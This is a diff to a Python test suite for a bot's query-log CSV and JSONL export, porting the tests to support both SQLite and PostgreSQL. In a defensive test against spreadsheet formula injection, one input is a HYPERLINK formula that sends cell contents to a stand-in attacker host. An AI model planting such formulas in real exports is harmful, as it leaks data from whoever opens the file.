@@ -6,10 +6,10 @@ import csv
 import gzip
 import io
 import json
-import sqlite3
 from pathlib import Path
 
 from bot.querylog.clock import iso
+from bot.querylog.dialect import SQLITE, LogConnection, dialect_of
 from bot.querylog.export import export
 from bot.querylog.filters import Filters
 from bot.querylog.listings import recent
@@ -19,7 +19,7 @@ from bot.querylog.votes import record_vote
 from tests.querylog.rows import HOSTILE, NOW, add
 
 
-def test_csv_export_equals_the_rows(db: sqlite3.Connection) -> None:
+def test_csv_export_equals_the_rows(db: LogConnection) -> None:
     for n, text in enumerate(HOSTILE[:10]):
         add(db, interaction_id=n, query=text + "\nsecond line, with comma")
     record_vote(db, EVERYTHING, 3, 1, -1, ["doc#1"])
@@ -32,7 +32,7 @@ def test_csv_export_equals_the_rows(db: sqlite3.Connection) -> None:
     assert parsed[3]["votes_down"] == "1" and parsed[3]["interaction_id"] == "3"
 
 
-def test_csv_export_cannot_run_formulas_in_a_spreadsheet(db: sqlite3.Connection) -> None:
+def test_csv_export_cannot_run_formulas_in_a_spreadsheet(db: LogConnection) -> None:
     """A member's question or name opening with =, +, -, @ (or a tab or carriage return) is a
     formula to Excel and LibreOffice: the moderator opening the export would run it."""
     formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd", "-2+3", "@SUM(1)"]
@@ -48,12 +48,13 @@ def test_csv_export_cannot_run_formulas_in_a_spreadsheet(db: sqlite3.Connection)
     assert parsed[0]["top_score"] == "5.0" and parsed[0]["votes_down"] == "0"
 
 
-def test_jsonl_export_equals_the_rows(db: sqlite3.Connection) -> None:
+def test_jsonl_export_equals_the_rows(db: LogConnection) -> None:
     add(db, interaction_id=1, query="first")
     add(db, interaction_id=2, query="sécond", outcome="no_results", results=[])
     out = io.BytesIO()
-    export(db, EVERYTHING, Filters(contains="É"), "jsonl", out)  # LIKE folds ASCII only
-    assert out.getvalue() == b""
+    found = export(db, EVERYTHING, Filters(contains="É"), "jsonl", out)
+    # SQLite's LIKE folds ASCII letters only, PostgreSQL's ILIKE every letter.
+    assert found == (0 if dialect_of(db) == SQLITE else 1)
     out = io.BytesIO()
     assert export(db, EVERYTHING, Filters(), "jsonl", out) == 2
     lines = [json.loads(line) for line in out.getvalue().decode().splitlines()]
@@ -64,17 +65,14 @@ def test_jsonl_export_equals_the_rows(db: sqlite3.Connection) -> None:
         assert {k: line[k] for k in columns} == {k: row[k] for k in columns}
 
 
-def test_export_streams_many_rows(db: sqlite3.Connection, tmp_path: Path) -> None:
-    rows = [
-        (n, iso(NOW), 1, "alice", "ask", f"question {n}", "answered", 1.0) for n in range(10_000)
-    ]
-    db.execute("BEGIN")
-    db.executemany(
+def test_export_streams_many_rows(db: LogConnection, tmp_path: Path) -> None:
+    db.execute(
+        "WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < 9999) "
         "INSERT INTO queries (interaction_id, created_at, user_id, user_name, command, query,"
-        " outcome, latency_ms) VALUES (?, ?, ?, ?, ?, ?, ?, ?)",
-        rows,
+        " outcome, latency_ms) SELECT i, ?, 1, 'alice', 'ask', 'question ' || i, 'answered', 1.0"
+        " FROM n",
+        [iso(NOW)],
     )
-    db.execute("COMMIT")
     target = tmp_path / "export.jsonl.gz"
     with gzip.open(target, "wb") as out:
         assert export(db, EVERYTHING, Filters(), "jsonl", out) == 10_000
